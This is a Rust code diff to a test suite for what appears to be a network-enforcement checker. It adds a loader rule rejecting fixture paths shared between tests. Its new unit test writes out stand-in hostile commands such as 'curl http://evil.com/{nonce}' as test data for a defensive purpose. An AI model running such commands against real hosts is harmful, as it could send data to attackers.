@@ -2,6 +2,7 @@
 //! load with errors that name the file and line; the rule that turns what a test observed into a
 //! verdict ([`verdict`]); running it on targets ([`run`]).
 
+pub mod expectations;
 pub mod records;
 pub mod run;
 pub mod verdict;
@@ -202,6 +203,19 @@ pub fn load(dir: &Path) -> Result<Suite> {
         }
     }
     tests.sort_by_key(|t| t.id);
+    // A fixture path another test also requests would read as a bypass whenever that test runs
+    // first (test 49's allowed request once made 51 and 53 "violated": all three asked for /NONCE).
+    for t in &tests {
+        let Some(hit) = t.violated.as_ref().and_then(|v| v.fixture_hit.as_deref()) else { continue };
+        if let Some(other) = tests.iter().find(|o| o.id != t.id && all_text(o).iter().any(|s| s.contains(hit))) {
+            return Err(usage(format!(
+                "{}: test {}: fixture_hit {hit:?} also appears in test {}; give each test a path of its own",
+                dir.display(),
+                t.id,
+                other.id
+            )));
+        }
+    }
     Ok(Suite { tests })
 }
 
@@ -449,6 +463,17 @@ mod tests {
         assert!(e.contains("fixture_hit test has a positive control"), "{e}");
         let e = one("id = 5\nname = \"n\"\nchannel = \"shim\"\ncommand = \"echo {noncee}\"\nexpect = \"allowed\"\noutput = \"x\"\n").unwrap_err();
         assert!(e.contains("unknown placeholder {noncee}"), "{e}");
+    }
+
+    #[test]
+    fn a_fixture_path_another_test_requests_is_refused() {
+        let enforced = "name = \"n\"\nchannel = \"shim\"\nexpect = \"enforced\"\nrule = \"r\"\nhow = \"runtime\"\ncontrol = \"curl http://evil.com/control-{nonce}\"\n";
+        let allowed = "[[test]]\nid = 2\nname = \"a\"\nchannel = \"shim\"\ncommand = \"curl https://registry.npm.test/{nonce}\"\nexpect = \"allowed\"\noutput = \"x\"\n";
+        let shared = format!("id = 1\n{enforced}command = \"curl http://evil.com/{{nonce}}\"\nviolated = {{ fixture_hit = \"/{{nonce}}\" }}\n\n{allowed}");
+        let e = one(&shared).unwrap_err();
+        assert!(e.contains("also appears in test 2"), "{e}");
+        let own = format!("id = 1\n{enforced}command = \"curl http://evil.com/t1-{{nonce}}\"\nviolated = {{ fixture_hit = \"/t1-{{nonce}}\" }}\n\n{allowed}");
+        assert!(one(&own).is_ok(), "{:?}", one(&own));
     }
 
     #[test]
